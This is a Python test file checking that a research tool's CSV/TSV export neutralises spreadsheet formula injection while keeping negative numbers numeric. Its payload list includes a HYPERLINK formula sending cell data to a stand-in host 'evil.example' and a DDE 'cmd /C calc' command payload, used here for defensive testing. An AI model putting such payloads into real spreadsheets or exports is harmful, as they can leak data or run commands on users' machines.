"""`autoresearch export`'s writers: every text cell a spreadsheet would read as a formula is text."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from autoresearch.ui.export import write_export
from tests.support.synthetic import make_study
from tests.ui.conftest import make_spec

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2-cmd"]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_formula_cells_are_text_and_negative_numbers_stay_numbers(tmp_path: Path, fmt: str) -> None:
    spec = make_spec(tmp_path)
    store = make_study(spec.study_dir, 6, seed=1)
    try:
        experiments = store.experiments()
        for e, formula in zip(experiments[1:], FORMULAS, strict=False):
            store.update(e.id, rationale=formula, strategy="\t" + formula, reason=" " + formula)
        first = experiments[1]
        store.update(first.id, objective=-0.25, metrics={**first.metrics, spec.metric.name: -0.25})
        write_export(spec, store.experiments(), tmp_path / f"out.{fmt}", fmt)
    finally:
        store.close()
    with open(tmp_path / f"out.{fmt}", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter="," if fmt == "csv" else "\t"))
    cells = [cell for row in rows for cell in row.values()]
    formula_like = [c for c in cells if c.lstrip(" \t\r")[:1] in ("=", "+", "-", "@")]
    assert all(
        c.startswith("'") or c.lstrip("+-").replace(".", "", 1).replace("e-", "").isdigit() for c in formula_like
    )
    assert [r["description"] for r in rows[1:5]] == ["'" + f for f in FORMULAS]
    assert rows[1][spec.metric.name] == "-0.25" and rows[1]["objective"] == "-0.25"  # a number, unquoted
    assert sum(c.startswith("'") for c in cells) >= 3 * len(FORMULAS)
